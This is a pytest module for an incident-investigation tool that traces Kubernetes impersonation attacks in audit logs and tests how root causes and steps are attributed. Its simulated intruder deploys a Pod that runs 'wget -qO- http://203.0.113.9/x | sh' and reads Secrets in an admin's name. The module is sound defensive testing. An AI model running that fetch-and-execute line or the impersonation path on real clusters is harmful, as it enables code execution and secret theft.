"""Acts in other people's names: whose they are called, and what is said to have let them happen."""

from __future__ import annotations

from typing import Any

import pytest

from tests.incident.conftest import Investigate
from tests.incident.identity.test_attribution import INTRUDER, only
from tests.incident.logs import DOOR, Log, account, allowed_by, binding

GITOPS = account("gitops", "reconciler")
JANES = allowed_by("platform-admins", "ClusterRole cluster-admin", "Group platform-admins")
OWN = allowed_by("gitops", "ClusterRole gitops", "ServiceAccount reconciler/gitops")
JANE = {"username": "jane", "groups": ["platform-admins", "system:authenticated"]}


@pytest.fixture
def log() -> Log:
    log = Log()
    log.quiet_day()
    return log


def may(log: Log, verb: str) -> None:
    """The account may take on names, or see them."""
    rules = [{"apiGroups": [""], "resources": ["users", "groups"], "verbs": [verb]}]
    role = {"kind": "ClusterRole", "metadata": {"name": "gitops"}, "rules": rules}
    log.admin("create", "clusterroles", at="07:00", name="gitops", body=role, response=role)
    bound = binding("gitops", "gitops", "ServiceAccount gitops/reconciler")
    log.admin("create", "clusterrolebindings", at="07:01", name="gitops", body=bound, response=bound)


def deploys(log: Log) -> None:
    container = {"name": "c", "image": "alpine", "command": ["sh", "-c", "wget -qO- http://203.0.113.9/x | sh"]}
    body = {"kind": "Pod", "metadata": {"name": "x", "namespace": "shop"}, "spec": {"containers": [container]}}
    log.request("create", "pods", at="13:02", by=GITOPS, address=INTRUDER, agent="curl/8.5.0", namespace="shop",
                name="x", body=body, reason=JANES, impersonatedUser=JANE)  # fmt: skip


def takes_names(log: Log) -> None:
    by: dict[str, Any] = {"by": GITOPS, "address": INTRUDER, "agent": "curl/8.5.0", "namespace": "shop"}
    log.request("list", "configmaps", at="13:00", reason=OWN, **by)
    log.request("list", "secrets", at="13:01", reason=JANES, impersonatedUser=JANE, **by)
    deploys(log)


def test_the_way_in_is_the_right_to_take_on_names_not_what_the_other_one_may_do(log: Log, judged: Investigate) -> None:
    may(log, "impersonate")
    takes_names(log)
    causes = only(judged(log)).root_causes
    assert [f"{one.kind}/{one.name}" for one in causes] == [f"Credential/{GITOPS}", "ClusterRoleBinding/gitops"]
    assert not any("platform-admins" in action.command for action in only(judged(log)).actions)


def test_a_right_to_take_on_names_that_was_only_used_for_that_is_a_cause_of_its_own(
    log: Log, judged: Investigate
) -> None:
    may(log, "impersonate")
    deploys(log)
    cause = only(judged(log)).root_causes[1]
    assert (cause.kind, cause.name, cause.requests_authorised) == ("ClusterRoleBinding", "gitops", 1)
    assert "impersonate" in cause.description.en
    assert "impersonate" in cause.description.zh


def test_a_binding_without_that_right_is_said_to_have_let_through_only_what_it_did(
    log: Log, judged: Investigate
) -> None:
    """The right comes from a role older than the log: it is not guessed."""
    may(log, "list")
    takes_names(log)
    own = only(judged(log)).root_causes[1]
    assert (own.name, own.requests_authorised, "impersonate" in own.description.en) == ("gitops", 1, False)


def test_whoever_comes_without_a_credential_and_takes_on_a_name_still_has_a_cause(
    log: Log, judged: Investigate
) -> None:
    log.request("list", "secrets", at="13:00", by="system:anonymous", address=INTRUDER, reason=DOOR,
                impersonatedUser=JANE)  # fmt: skip
    assert [one.name for one in only(judged(log)).root_causes] == ["anonymous-admin"]


def test_a_step_in_another_name_says_so_and_is_not_folded_with_what_was_done_in_ones_own(
    log: Log, judged: Investigate
) -> None:
    takes_names(log)
    incident = only(judged(log))
    said = [(step.identity, step.description.en) for step in incident.steps]
    assert said == [
        (GITOPS, "listed configmaps in shop"),
        (GITOPS, "read all Secrets in shop in the name of jane"),
        (GITOPS, "created Pod shop/x (image alpine) in the name of jane"),
    ]
    assert incident.steps[1].description.zh == "冒用 jane 的名义读取 shop 的全部 Secret"
    assert incident.actors[0].impersonated == ("jane",)
    assert incident.actors[0].identities == (GITOPS,)


def test_a_name_as_long_as_a_page_is_cut_in_a_step(log: Log, judged: Investigate) -> None:
    log.request("list", "secrets", at="13:00", by="system:anonymous", address=INTRUDER, reason=DOOR,
                impersonatedUser={"username": "j" * 5_000})  # fmt: skip
    assert len(only(judged(log)).steps[0].description.en) < 300


def names_taken_on(log: Log, judged: Investigate) -> list[tuple[str, str]]:
    """Edges from what lets names be taken on: from where, and whose name."""
    edges = only(judged(log)).edges
    return [(one.source.name, one.keys["impersonatedUser"]) for one in edges if one.link == "links/name_taken_on"]


def test_a_step_in_another_name_hangs_on_the_binding_that_lets_it_be_taken_on(log: Log, judged: Investigate) -> None:
    may(log, "impersonate")
    deploys(log)
    assert names_taken_on(log, judged) == [("clusterrolebindings/gitops", "jane")]


def test_without_that_right_in_the_log_no_step_hangs_on_it(log: Log, judged: Investigate) -> None:
    may(log, "list")
    takes_names(log)
    assert names_taken_on(log, judged) == []
